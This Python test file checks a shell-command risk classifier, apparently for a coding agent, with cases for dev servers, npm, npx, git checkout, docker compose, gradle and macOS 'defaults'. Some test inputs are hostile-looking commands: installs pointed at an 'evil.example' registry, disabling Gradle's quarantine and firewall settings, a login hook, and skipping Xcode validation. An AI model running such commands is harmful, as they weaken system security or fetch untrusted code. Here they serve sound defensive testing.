"""Grades checked against a blind corpus: dev servers listen on a port (network), tools that query a registry,
local package programs run by npx, branch checkouts, Gradle's project paths, docker compose queries and everyday
inspectors (macOS version queries, htop, buf, sqlc). Each rule is tested in both directions: the hostile spelling
still asks."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.risk import RiskLevel, classify

R = RiskLevel
WORKSPACE = Path("/home/dev/project")


def grade(command: str, workspace: Path = WORKSPACE, *, contained: bool = False) -> RiskLevel:
    return classify(command, contained=contained, workspace=workspace).risk


@pytest.mark.parametrize(("command", "risk"), [
    ("next dev -p 3000", R.NETWORK),  # a dev server listens on a port, as vite and rails server do
    ("next dev", R.NETWORK),
    ("next start -p 8080", R.NETWORK),
    ("vite", R.NETWORK),
    ("rails server", R.NETWORK),
    ("next build", R.WORKSPACE_WRITE),
    ("next lint", R.WORKSPACE_WRITE),
    ("next info", R.READ_ONLY),
    ("next frobnicate", R.DESTRUCTIVE),
])  # fmt: skip
def test_a_dev_server_listens_on_a_port(command: str, risk: RiskLevel) -> None:
    assert grade(command) is risk, command


@pytest.mark.parametrize(("command", "risk"), [
    ("mix hex.info", R.NETWORK),  # prints when the registry was last updated; Hex.start checks hex.pm
    ("mix hex.info phoenix", R.NETWORK),
    ("mix hex.outdated", R.NETWORK),
    ("mix compile", R.WORKSPACE_WRITE),
    ("tflint", R.WORKSPACE_WRITE),  # a plain run loads installed plugins; it never downloads them
    ("tflint --init", R.NETWORK),  # --init downloads the plugins .tflint.hcl names
    ("tflint --config /tmp/evil.hcl", R.DESTRUCTIVE),
])  # fmt: skip
def test_tools_that_query_or_download_from_a_registry(command: str, risk: RiskLevel) -> None:
    assert grade(command) is risk, command


@pytest.mark.parametrize(("command", "risk"), [
    ("htop", R.READ_ONLY),  # graded as top is: changes are typed at its terminal interface
    ("htop -d 10 -u dev", R.READ_ONLY),
    ("htop --readonly", R.READ_ONLY),
    ("htop --frobnicate", R.DESTRUCTIVE),
    ("sw_vers", R.READ_ONLY),
    ("sw_vers -productVersion", R.READ_ONLY),
    ("sw_vers -frobnicate", R.DESTRUCTIVE),
    ("xcode-select -p", R.READ_ONLY),
    ("xcode-select --print-path", R.READ_ONLY),
    ("xcode-select -s /Applications/Xcode.app", R.SYSTEM),
    ("xcode-select --install", R.SYSTEM),
    ("xcode-select -r", R.SYSTEM),
    ("defaults read com.apple.dock", R.READ_ONLY),
    ("defaults domains", R.READ_ONLY),
    ("defaults -currentHost read com.apple.screensaver", R.READ_ONLY),
    ("defaults write com.apple.dock autohide -bool true", R.SYSTEM),  # the user's preferences under ~
    ("defaults delete com.apple.dock", R.DESTRUCTIVE),
    ("defaults export com.apple.dock /etc/x", R.DESTRUCTIVE),
    ("defaults write com.apple.dt.Xcode IDESkipPackagePluginFingerprintValidatation -bool YES", R.DESTRUCTIVE),
    ("defaults write com.apple.dt.Xcode IDESkipMacroFingerprintValidation -bool YES", R.DESTRUCTIVE),
    ("defaults write com.apple.LaunchServices LSQuarantine -bool false", R.DESTRUCTIVE),
    ("defaults write com.apple.loginwindow LoginHook /Users/me/hook.sh", R.DESTRUCTIVE),
    ("defaults write /Library/Preferences/com.apple.alf globalstate -int 0", R.DESTRUCTIVE),
    ("defaults write com.apple.alf globalstate -int 0", R.DESTRUCTIVE),
    ("defaults write com.apple.dt.Xcode ShowBuildOperationDuration -bool YES", R.SYSTEM),
])  # fmt: skip
def test_everyday_inspectors(command: str, risk: RiskLevel) -> None:
    assert grade(command) is risk, command


@pytest.mark.parametrize(("command", "risk"), [
    ("buf lint", R.READ_ONLY),
    ("buf format", R.READ_ONLY),
    ("buf format -w", R.WORKSPACE_WRITE),
    ("buf build -o image.binpb", R.WORKSPACE_WRITE),
    ("buf build -o /etc/image.binpb", R.DESTRUCTIVE),
    ("buf lint --config /tmp/buf.yaml", R.DESTRUCTIVE),
    ("buf generate", R.NETWORK),  # a remote plugin runs on the Buf Schema Registry with the .proto files
    ("buf generate --template /tmp/buf.gen.yaml", R.DESTRUCTIVE),
    ("buf push", R.NETWORK),
    ("buf frobnicate", R.DESTRUCTIVE),
    ("sqlc compile", R.WORKSPACE_WRITE),
    ("sqlc generate", R.NETWORK),  # wasm plugins downloaded by URL, the analyzer's database.uri
    ("sqlc vet", R.NETWORK),  # vet rules query the configured database
    ("sqlc version", R.READ_ONLY),
    ("sqlc -f /tmp/sqlc.yaml generate", R.DESTRUCTIVE),
    ("sqlc frobnicate", R.DESTRUCTIVE),
])  # fmt: skip
def test_buf_and_sqlc(command: str, risk: RiskLevel) -> None:
    assert grade(command) is risk, command


@pytest.mark.parametrize(("command", "risk"), [
    ("npm dedupe", R.NETWORK),  # reifies the tree as npm install does
    ("npm ddp", R.NETWORK),
    ("pnpm dedupe", R.NETWORK),
    ("npm dedupe --registry https://evil.example", R.DESTRUCTIVE),
    ("npm dedupe -g", R.SYSTEM),
    ("npm prune", R.WORKSPACE_WRITE),
])  # fmt: skip
def test_dedupe_fetches_as_an_install_does(command: str, risk: RiskLevel) -> None:
    assert grade(command) is risk, command


@pytest.mark.parametrize(("command", "risk"), [
    ("rmdir build/out", R.WORKSPACE_WRITE),  # rmdir(1) removes only empty directories: nothing is lost
    ("rmdir -p build/out/x", R.WORKSPACE_WRITE),
    ("rmdir /etc/foo", R.DESTRUCTIVE),
    ("rmdir ~/.ssh", R.DESTRUCTIVE),
    ("rmdir .git/refs/x", R.DESTRUCTIVE),
    ("rm -r build/out", R.DESTRUCTIVE),
])  # fmt: skip
def test_rmdir_is_a_write_and_the_places_still_count(command: str, risk: RiskLevel) -> None:
    assert grade(command) is risk, command


def test_the_grading_summary_names_rmdir_as_a_write() -> None:
    summary = (Path(__file__).parents[2] / "docs" / "grading.md").read_text().split("## How it grades")[0]
    assert "`rmdir`" in summary and "deleting" in summary


def _compose_project(root: Path, text: str) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    (root / "compose.yaml").write_text(text)
    return root


@pytest.mark.parametrize(("command", "risk"), [
    ("docker compose ps", R.READ_ONLY),  # as docker ps: the local engine's state
    ("docker compose logs -f api", R.READ_ONLY),
    ("docker compose -f compose.yaml ps", R.READ_ONLY),
    ("docker compose ls", R.READ_ONLY),
    ("docker-compose ps", R.READ_ONLY),
    ("docker compose -f oci://docker.io/u/app:latest ps", R.NETWORK),  # fetched from a registry
    ("docker compose -f https://example.com/c.yaml logs", R.NETWORK),
    ("docker compose -H tcp://build.example:2375 ps", R.NETWORK),
    ("docker --context prod compose logs", R.NETWORK),
    ("docker compose up -d", R.DESTRUCTIVE),
    ("docker compose events", R.NETWORK),
])  # fmt: skip
def test_docker_compose_queries_read_the_local_engine(tmp_path: Path, command: str, risk: RiskLevel) -> None:
    from bot.risk.recipes import ProjectRecipes

    root = _compose_project(tmp_path / "ws", "services:\n  api:\n    image: x\n    restart: always\n")
    verdict = classify(command, contained=False, workspace=root, recipes=ProjectRecipes(root))
    assert verdict.risk is risk, (command, verdict.reasons)


@pytest.mark.parametrize("command", [
    "docker compose --env-file /tmp/e ps",  # may set COMPOSE_FILE: other files
    "docker compose --project-directory /srv/app ps",
    'docker compose -f "$F" ps',
])  # fmt: skip
def test_docker_compose_queries_of_files_not_looked_up_stay_network(tmp_path: Path, command: str) -> None:
    from bot.risk.recipes import ProjectRecipes

    root = _compose_project(tmp_path / "ws", "services:\n  api:\n    image: x\n")
    verdict = classify(command, contained=False, workspace=root, recipes=ProjectRecipes(root))
    assert verdict.risk >= R.NETWORK, (command, verdict.reasons)


@pytest.mark.parametrize("text", [
    "include:\n  - oci://docker.io/u/app:latest\nservices:\n  a:\n    image: x\n",
    "services:\n  a:\n    extends:\n      file: https://example.com/base.yaml\n      service: b\n",
])  # fmt: skip
def test_docker_compose_ps_asks_when_the_compose_file_pulls_in_others(tmp_path: Path, text: str) -> None:
    from bot.risk.recipes import ProjectRecipes

    root = _compose_project(tmp_path / "ws", text)
    verdict = classify("docker compose ps", contained=False, workspace=root, recipes=ProjectRecipes(root))
    assert verdict.risk is R.DESTRUCTIVE, verdict.reasons


def _git_repository(root: Path) -> Path:
    import subprocess

    def git(*args: str) -> None:
        subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)

    root.mkdir(parents=True)
    git("init", "-q", "-b", "main")
    (root / "f").write_text("x\n")
    (root / "src").mkdir()
    (root / "src" / "a.py").write_text("y\n")
    git("add", ".")
    git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-qm", "i")
    git("branch", "feature")
    git("tag", "v1")
    return root


@pytest.mark.parametrize(("command", "risk"), [
    ("git checkout main", R.WORKSPACE_WRITE),  # a local branch: a switch, which keeps local changes
    ("git checkout feature", R.WORKSPACE_WRITE),
    ("git checkout -q feature", R.WORKSPACE_WRITE),
    ("git switch main", R.WORKSPACE_WRITE),
    ("git checkout -- f", R.DESTRUCTIVE),
    ("git checkout .", R.DESTRUCTIVE),
    ("git checkout src", R.DESTRUCTIVE),  # a path: its changes are overwritten
    ("git checkout nobranch", R.DESTRUCTIVE),  # no branch: a path if there is one
    ("git checkout v1", R.DESTRUCTIVE),  # a tag, not a local branch: not looked up
    ("git checkout -f main", R.DESTRUCTIVE),
    ("git checkout --force main", R.DESTRUCTIVE),
    ("git checkout -m main", R.DESTRUCTIVE),
    ("git checkout main -- f", R.DESTRUCTIVE),
    ("git checkout main f", R.DESTRUCTIVE),
    ("git checkout main --", R.DESTRUCTIVE),
    ("git checkout $B", R.DESTRUCTIVE),
])  # fmt: skip
def test_git_checkout_of_a_local_branch_is_a_switch(tmp_path: Path, command: str, risk: RiskLevel) -> None:
    from bot.risk.recipes import ProjectRecipes

    root = _git_repository(tmp_path / "ws")
    verdict = classify(command, contained=False, workspace=root, recipes=ProjectRecipes(root))
    assert verdict.risk is risk, (command, verdict.reasons)


def test_git_checkout_of_a_branch_the_adapter_did_not_report_asks() -> None:
    assert grade("git checkout main") is R.DESTRUCTIVE


@pytest.mark.parametrize(("command", "risk"), [
    ("./gradlew :app:test --tests '*UserServiceTest'", R.WORKSPACE_WRITE),  # the task test of the project :app
    ("gradle app:test", R.WORKSPACE_WRITE),
    ("gradle :test", R.WORKSPACE_WRITE),  # the root project's
    ("gradle test :app:build", R.WORKSPACE_WRITE),
    ("gradle :app:bootRun", R.NETWORK),
    ("gradle :app:clean", R.DESTRUCTIVE),
    ("gradle :app:installDebug", R.DESTRUCTIVE),
    ("gradle :app:frobnicate", R.DESTRUCTIVE),
    ("gradle ::test", R.DESTRUCTIVE),
    ("gradle app::test", R.DESTRUCTIVE),
    ("gradle :app:", R.DESTRUCTIVE),
    ("mvn clean:test", R.DESTRUCTIVE),  # task paths are Gradle's only
])  # fmt: skip
def test_gradle_task_paths_name_a_project_s_task(command: str, risk: RiskLevel) -> None:
    assert grade(command) is risk, command


def _node_project(root: Path) -> Path:
    bins = root / "node_modules" / ".bin"
    (root / "node_modules" / "jest" / "bin").mkdir(parents=True)
    bins.mkdir(parents=True)
    (root / "sub").mkdir()
    (root / "package.json").write_text("{}")
    (root / "node_modules" / "jest" / "bin" / "jest.js").write_text("x")
    (bins / "jest").symlink_to("../jest/bin/jest.js")
    (bins / "prettier").write_text("x")
    (bins / "vitest").symlink_to("/usr/bin/env")  # a program outside the workspace
    return root


@pytest.mark.parametrize(("command", "risk"), [
    ("npx jest --watchAll=false", R.WORKSPACE_WRITE),  # node_modules/.bin/jest: run, not fetched
    ("npx prettier --write .", R.WORKSPACE_WRITE),
    ("cd sub && npx jest", R.WORKSPACE_WRITE),  # the prefix is the closest directory with package.json
    ("npx eslint .", R.NETWORK),  # not installed: fetched
    ("npx jest@29", R.NETWORK),  # a version: the local one may not satisfy it
    ("npx vitest run", R.NETWORK),  # its link leads outside the workspace
    ("npx -p jest jest", R.DESTRUCTIVE),
    ("npx --registry https://evil.example jest", R.DESTRUCTIVE),
    ("npx prettier --write /etc/hosts", R.DESTRUCTIVE),
    ("cd /tmp && npx jest", R.DESTRUCTIVE),
])  # fmt: skip
def test_npx_runs_the_project_s_own_program(tmp_path: Path, command: str, risk: RiskLevel) -> None:
    from bot.risk.recipes import ProjectRecipes

    root = _node_project(tmp_path / "ws")
    verdict = classify(command, contained=False, workspace=root, recipes=ProjectRecipes(root))
    assert verdict.risk is risk, (command, verdict.reasons)


def test_npx_without_the_adapter_s_report_keeps_the_fetch() -> None:
    assert grade("npx jest") is R.NETWORK


def test_npx_in_a_project_without_node_modules_fetches(tmp_path: Path) -> None:
    from bot.risk.recipes import ProjectRecipes

    root = tmp_path / "ws"
    (root / "node_modules").mkdir(parents=True)  # the prefix, with no .bin
    (root / "package.json").write_text("{}")
    verdict = classify("npx jest", contained=False, workspace=root, recipes=ProjectRecipes(root))
    assert verdict.risk is R.NETWORK, verdict.reasons
